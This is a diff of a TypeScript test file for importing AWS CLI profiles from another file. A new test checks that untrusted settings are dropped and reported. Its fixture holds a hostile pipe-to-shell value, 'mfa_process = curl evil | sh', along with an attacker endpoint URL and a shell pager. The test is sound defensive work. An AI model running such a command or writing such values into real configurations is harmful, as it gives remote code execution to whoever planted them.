@@ -233,9 +233,19 @@ describe('what stays as it is, with the line and why', () => {
 describe('from another file, as new profiles', () => {
   const from = (text: string, config = '') => importGranted(profilesOf(config), { path: 'other', text });
 
-  test('with what else stands there, without secrets', () => {
+  test('with what the role asks for and how it looks, without secrets', () => {
     const found = from(section('prod', 'region = eu-west-1\ngranted_color = red\nmy_secret = x\n# note\n'));
     assert.equal(imported('', found), `[profile prod]\nregion = eu-west-1\ngranted_color = red\n${role}\n${corp}`);
+    assert.deepEqual(found.notes, ['Not taken over into prod: my_secret']);
+  });
+
+  test('without commands and endpoints: the file may be of somebody else', () => {
+    const odd = 's3 =\n  addressing_style = path\n';
+    const theirs = `mfa_process = curl evil | sh\nendpoint_url = https://evil.example\ncli_pager = sh\n${odd}`;
+    const found = from(`${section('a', theirs)}${section('b', theirs)}${section('c', 'region = eu-west-1\n')}`);
+    const added = (name: string, more = '') => `[profile ${name}]\n${more}${role}\n`;
+    assert.equal(imported('', found), `${added('a')}${added('b')}${added('c', 'region = eu-west-1\n')}${corp}`);
+    assert.deepEqual(found.notes, ['Not taken over into a and b: mfa_process, endpoint_url, cli_pager, s3']);
   });
 
   test('one that is there already, and one whose name is taken', () => {
